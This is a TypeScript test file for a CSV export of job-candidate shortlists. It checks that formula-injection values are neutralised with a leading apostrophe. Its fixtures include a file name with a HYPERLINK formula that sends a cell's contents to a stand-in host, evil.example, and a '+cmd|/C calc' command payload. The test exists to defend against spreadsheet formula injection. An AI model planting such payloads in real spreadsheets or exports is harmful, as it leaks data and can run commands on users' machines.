/**
 * CSV export against formula injection: a hostile file name (blind mode off) and notes that start with = + - @ tab
 * or CR are exported as text a spreadsheet shows as written (prefixed with '), also when the cell spans lines;
 * ordinary text and numbers (scores, ranks) are unchanged and everything parses back to the same values.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, shortlistCsv, type ExportRow } from '../../src/lib/services/candidates.service';

const HOSTILE_FILE = '=HYPERLINK("http://evil.example/?leak="&B2,"open").pdf';

function row(over: Partial<ExportRow>): ExportRow {
  return { rank: 1, candidate: 'Candidate #1', file: 'cv.pdf', location: '', score: 71, mustHavesMet: '2/3', status: 'parsed', decision: '', note: '', ...over };
}

describe('shortlistCsv', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const hostile = ['=1+1', '+cmd|/C calc', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=HYPERLINK("x")\nsecond line'];
    const rows = [
      row({ file: HOSTILE_FILE, candidate: '@Jane', note: hostile[0] }),
      ...hostile.slice(1).map((note, i) => row({ rank: i + 2, note, score: -1 }))
    ];
    const csv = shortlistCsv(rows);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(parsed).toHaveLength(rows.length);
    expect(parsed[0].file).toBe(`'${HOSTILE_FILE}`);
    expect(parsed[0].candidate).toBe("'@Jane");
    parsed.forEach((cells, i) => {
      expect(cells.note).toBe(`'${rows[i].note}`);
      for (const column of EXPORT_COLUMNS) if (typeof rows[i][column] === 'string') expect(cells[column], column).not.toMatch(/^[=+\-@\t\r]/);
    });
    // Numbers stay numbers (a negative score is not text a spreadsheet would evaluate as a formula).
    expect(parsed[1].score).toBe('-1');
  });

  it('leaves ordinary text alone', () => {
    const csv = shortlistCsv([row({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am' })]);
    const [cells] = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(cells).toMatchObject({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am', score: '71', rank: '1' });
  });
});
